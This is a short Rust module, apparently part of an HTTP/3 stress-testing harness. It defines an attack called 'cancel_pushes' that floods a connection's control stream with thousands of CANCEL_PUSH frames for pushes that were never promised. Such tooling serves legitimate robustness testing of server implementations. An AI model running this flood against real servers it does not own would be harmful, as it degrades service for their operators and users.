//! CANCEL_PUSH frames, for pushes that nobody promised.

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("cancel_pushes", "CANCEL_PUSH frames", run);

fn run(a: &mut Attacker) {
    let flood = wire::frame(0x03, &[0]).repeat(1_000);
    a.storm(|conn, (): &mut ()| {
        let control = conn.critical().control;
        if conn.takes(control) {
            conn.write(control, &flood);
            conn.ops += 1_000;
        }
    });
}
